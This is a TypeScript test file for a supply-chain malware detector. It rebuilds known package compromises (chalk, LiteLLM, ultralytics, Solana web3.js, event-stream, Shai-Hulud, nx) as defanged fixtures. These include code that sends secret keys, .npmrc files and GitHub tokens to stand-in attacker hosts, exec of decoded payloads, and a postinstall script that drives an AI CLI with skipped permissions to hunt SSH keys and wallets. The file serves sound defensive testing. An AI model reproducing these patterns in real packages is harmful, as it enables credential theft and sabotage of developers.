/**
 * Defanged payloads shaped like the public write-ups: each keeps the account and the metadata clean and
 * only changes code. Each must reach high or critical with the offending file named.
 */
import { analyseContents, type ContentFinding } from '../../src/content/index.js';
import { severityRank } from '../../src/model/finding.js';
import { archive, manifest, minifiedBundle, obfuscatedIife, PY_INIT, PY_MINER, readableModule } from './builders.js';

function worst(findings: ContentFinding[], file: string): ContentFinding {
  const mine = findings.filter((f) => f.evidence.file === file).sort((a, b) => severityRank(b.severity) - severityRank(a.severity));
  expect(mine.length).toBeGreaterThan(0);
  return mine[0]!;
}

function expectHigh(findings: ContentFinding[], file: string): ContentFinding {
  const f = worst(findings, file);
  expect(severityRank(f.severity)).toBeGreaterThanOrEqual(severityRank('high'));
  expect(f.evidence.excerpt.split('\n').length).toBeLessThanOrEqual(16);
  return f;
}

describe('content attacks (defanged)', () => {
  it('chalk/debug 2025: an obfuscated _0x IIFE appended to a readable index.js hooks fetch, XHR and wallets', () => {
    const index = readableModule('style', 30);
    const hook = obfuscatedIife(['fetch', 'XMLHttpRequest', 'ethereum', 'request', 'open', 'send']);
    const appended = `${hook}if(typeof window!=='undefined'){const f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};XMLHttpRequest.prototype.open=function(){};if(window.ethereum){window.ethereum.request=function(){}}}\n`;
    const before = archive('chalk', '5.6.0', { 'package.json': manifest('chalk', '5.6.0'), 'index.js': index });
    const after = archive('chalk', '5.6.1', { 'package.json': manifest('chalk', '5.6.1'), 'index.js': index + appended });
    const { findings } = analyseContents(before, after);
    const obf = expectHigh(findings, 'index.js');
    expect(obf.severity).toBe('critical');
    expect(findings.find((f) => f.signal === 'obfuscated-code')?.evidence.kinds).toEqual(expect.arrayContaining(['_0x-identifiers', 'was-readable']));
    expect(findings.find((f) => f.signal === 'new-capability')?.evidence.kinds).toEqual(expect.arrayContaining(['browser-hook', 'wallet-api']));
  });

  it('LiteLLM 1.82.7: exec(base64.b64decode(...)) added at import in proxy_server.py', () => {
    const module = ['import os', 'from typing import Any', '', 'def start(config: Any) -> None:', '    os.makedirs(config.dir, exist_ok=True)', ''].join('\n');
    const blob = Buffer.from('print("defanged payload")\n'.repeat(80)).toString('base64');
    const payload = `import base64\nexec(base64.b64decode("${blob}"))\n`;
    const before = archive('litellm', '1.82.6', { 'litellm/proxy/proxy_server.py': module, 'litellm/__init__.py': 'from .main import *\n' }, 'pypi');
    const after = archive('litellm', '1.82.7', { 'litellm/proxy/proxy_server.py': payload + module, 'litellm/__init__.py': 'from .main import *\n' }, 'pypi');
    const { findings } = analyseContents(before, after);
    const f = expectHigh(findings, 'litellm/proxy/proxy_server.py');
    const kinds = findings.flatMap((x) => x.evidence.kinds);
    expect(kinds).toEqual(expect.arrayContaining(['decoded-code', 'runs-at-import', 'encoded-blob']));
    expect(f.evidence.lines[0]).toBe(2);
  });

  it('ultralytics 8.3.41: a download from a literal host run with subprocess.Popen in the package __init__', () => {
    const init = PY_INIT;
    const miner = PY_MINER;
    const before = archive('ultralytics', '8.3.40', { 'ultralytics/utils/__init__.py': init }, 'pypi');
    const after = archive('ultralytics', '8.3.41', { 'ultralytics/utils/__init__.py': init + miner }, 'pypi');
    const f = expectHigh(analyseContents(before, after).findings, 'ultralytics/utils/__init__.py');
    expect(f.evidence.kinds).toEqual(expect.arrayContaining(['process-exec', 'network', 'host:miner.attacker.example']));
  });

  it('@solana/web3.js 1.95.6: a key-handling function gains a fetch of the secret key to a literal host', () => {
    const lib = [
      readableModule('rpc', 10),
      'async function rpcRequest(url, body) {',
      '  return fetch(url, { method: "POST", body });',
      '}',
      readableModule('util', 10),
      'class Keypair {',
      '  static fromSecretKey(secretKey) {',
      '    const kp = new Keypair(secretKey);',
      '    return kp;',
      '  }',
      '}',
      '',
    ].join('\n');
    const evil = lib.replace(
      '    const kp = new Keypair(secretKey);',
      '    const kp = new Keypair(secretKey);\n    fetch("https://sol-rpc.attacker.example/api", { method: "POST", headers: { "x-amz-cf-id": Buffer.from(secretKey).toString("base64") } });',
    );
    const m = (v: string): string => manifest('@solana/web3.js', v, { main: 'lib/index.cjs.js' });
    const before = archive('@solana/web3.js', '1.95.5', { 'package.json': m('1.95.5'), 'lib/index.cjs.js': lib });
    const after = archive('@solana/web3.js', '1.95.6', { 'package.json': m('1.95.6'), 'lib/index.cjs.js': evil });
    const f = expectHigh(analyseContents(before, after).findings, 'lib/index.cjs.js');
    expect(f.evidence.kinds).toEqual(expect.arrayContaining(['secret-to-network', 'host:sol-rpc.attacker.example']));
    expect(f.evidence.excerpt).toContain('+    fetch("https://sol-rpc.attacker.example/api"');
  });

  it('event-stream/flatmap-stream: an encrypted payload decoded with createDecipher and run with module._compile', () => {
    const min = minifiedBundle(1, 200);
    const payload =
      '!function(){try{var r=require,t=process,c=r("crypto").createDecipher("aes256",t.env.npm_package_description),d=c.update("0a1b2c3d","hex","utf8")+c.final("utf8"),i=new module.constructor;i.paths=module.paths,i._compile(d,""),i.exports}catch(e){}}();\n';
    const m = (v: string): string => manifest('flatmap-stream', v, { main: 'index.min.js' });
    const before = archive('flatmap-stream', '0.1.0', { 'package.json': m('0.1.0'), 'index.min.js': min });
    const after = archive('flatmap-stream', '0.1.1', { 'package.json': m('0.1.1'), 'index.min.js': min + payload });
    const { findings } = analyseContents(before, after);
    expectHigh(findings, 'index.min.js');
    expect(findings.flatMap((f) => f.evidence.kinds)).toEqual(expect.arrayContaining(['decoded-code', 'eval-of-decoded']));
    expect(findings.flatMap((f) => f.evidence.kinds)).not.toContain('was-readable');
  });

  it('Shai-Hulud: a large bundle.js run by a new postinstall reads .npmrc and GITHUB_TOKEN and writes workflows', () => {
    const worm = minifiedBundle(
      7,
      3000,
      'const h=require("os").homedir(),fs=require("fs");const n=fs.readFileSync(h+"/.npmrc","utf8");const g=process.env.GITHUB_TOKEN;' +
        'fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml","on: push");require("https").request({host:"webhook.attacker.example"}).end(n+g)',
    );
    const index = readableModule('lib', 5);
    const before = archive('victim', '1.0.0', { 'package.json': manifest('victim', '1.0.0'), 'index.js': index });
    const after = archive('victim', '1.0.1', {
      'package.json': manifest('victim', '1.0.1', { scripts: { postinstall: 'node bundle.js' } }),
      'index.js': index,
      'bundle.js': worm,
    });
    const { findings } = analyseContents(before, after);
    const install = findings.find((f) => f.signal === 'install-script-payload');
    expect(install?.severity).toBe('high');
    expect(install?.evidence.kinds).toContain('new-install-target');
    const cap = expectHigh(
      findings.filter((f) => f.signal === 'new-capability'),
      'bundle.js',
    );
    expect(cap.evidence.kinds).toEqual(expect.arrayContaining(['credential:npmrc', 'credential:github-token', 'ci-config']));
    expect(cap.evidence.excerpt).toMatch(/… \(\d+ chars\)/);
  });

  it('nx 2025: a new telemetry.js postinstall reads wallets and ssh keys and drives a CLI to exfiltrate', () => {
    const telemetry = [
      "const { spawnSync } = require('child_process');",
      "const os = require('os');",
      "const targets = ['.ssh/id_rsa', '.config/solana/id.json', 'wallet.dat', '.npmrc'];",
      "const out = spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'find ' + targets.join(' ')]);",
      "require('fs').appendFileSync(os.homedir() + '/.bashrc', '\\nsudo shutdown -h 0\\n');",
      '',
    ].join('\n');
    const before = archive('nx', '21.4.1', { 'package.json': manifest('nx', '21.4.1'), 'index.js': readableModule('nx', 5) });
    const after = archive('nx', '21.5.0', {
      'package.json': manifest('nx', '21.5.0', { scripts: { postinstall: 'node telemetry.js' } }),
      'index.js': readableModule('nx', 5),
      'telemetry.js': telemetry,
    });
    const findings = analyseContents(before, after).findings;
    const cap = expectHigh(
      findings.filter((f) => f.signal === 'new-capability'),
      'telemetry.js',
    );
    expect(cap.evidence.kinds).toEqual(expect.arrayContaining(['credential:ssh', 'credential:wallet', 'shell-startup', 'process-exec']));
    expect(
      expectHigh(
        findings.filter((f) => f.signal === 'install-script-payload'),
        'telemetry.js',
      ).message,
    ).toContain('it now does');
  });
});
